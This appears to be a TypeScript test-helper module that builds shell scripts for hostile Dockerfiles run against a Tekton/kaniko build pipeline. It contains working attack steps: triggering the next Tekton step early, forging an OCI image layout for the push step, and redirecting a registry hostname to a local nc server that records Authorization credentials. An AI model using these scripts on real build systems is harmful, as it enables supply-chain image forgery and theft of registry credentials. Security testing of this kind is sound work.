/** A digest that no registry holds. */
export const FORGED = `sha256:${'b'.repeat(64)}`;

/** For scripts of hostile Dockerfiles: lets the next step start, as Tekton's own program would after the build. */
export const START_NEXT = ': > /tekton/run/1/out';

/** Waits for the end of a later step by its number, well or not, for a minute at most. */
export function untilEnded(step: number): string {
  return `i=0
until [ -e /tekton/run/${step}/out ] || [ -e /tekton/run/${step}/out.err ] || [ $i -gt 300 ]; do sleep 0.2; i=$((i+1)); done`;
}

/**
 * Defines `forge LABEL`: it makes the layout that the step push reads into an image of this script's own, without layers, and
 * prints its digest. What it names last in a line is whole at any time.
 */
export const FORGE = `layout=/kaniko/oci
mkdir -p $layout/blobs/sha256
printf '{"imageLayoutVersion":"1.0.0"}' > $layout/oci-layout
put() { hex=$(printf %s "$1" | sha256sum | cut -c1-64); printf %s "$1" > $layout/blobs/sha256/$hex; echo $hex; }
forge() {
  config='{"architecture":"amd64","os":"linux","config":{"Labels":{"made":"'$1'"}},"rootfs":{"type":"layers","diff_ids":[]}}'
  of='application/vnd.oci.image'
  manifest='{"schemaVersion":2,"mediaType":"'$of'.manifest.v1+json","config":{"mediaType":"'$of'.config.v1+json",'
  manifest=$manifest'"digest":"sha256:'$(put "$config")'","size":'\${#config}'},"layers":[]}'
  digest=sha256:$(put "$manifest")
  point $digest \${#manifest}
  echo "forged $1 $digest"
}
point() {
  printf '{"schemaVersion":2,"manifests":[{"mediaType":"%s","digest":"%s","size":%s}]}' \\
    application/vnd.oci.image.manifest.v1+json $1 $2 > $layout/new
  mv -f $layout/new $layout/index.json
}
`;

/**
 * Sends who asks for HOST:PORT in this pod to a server of this script's own, which wants a password, then says that an image
 * with the digest in /forged is there already, and writes to /told what it was told.
 */
export function posingAs(host: string): string {
  const [name, port] = host.split(':');
  return `echo '127.0.0.1 ${name}' >> /etc/hosts
cat > /answer.sh << 'END'
status='401 Unauthorized'
if [ "$(dd bs=1 count=1 2> /dev/null | tr A-Z x)" = x ]; then
  while read -r line; do
    line=$(printf %s "$line" | tr -d '\\r')
    echo "$line" >> /told
    case "$line" in '') break;; Authorization:*) status='200 OK';; esac
  done
fi
printf 'HTTP/1.1 %s\\r\\nWWW-Authenticate: Basic realm="x"\\r\\nConnection: close\\r\\n' "$status"
printf 'Content-Type: application/vnd.oci.image.manifest.v1+json\\r\\nDocker-Content-Digest: %s\\r\\n' $(cat /forged)
printf 'Content-Length: 0\\r\\n\\r\\n'
END
setsid nc -ll -p ${port} -e sh /answer.sh > /dev/null 2>&1 &
`;
}
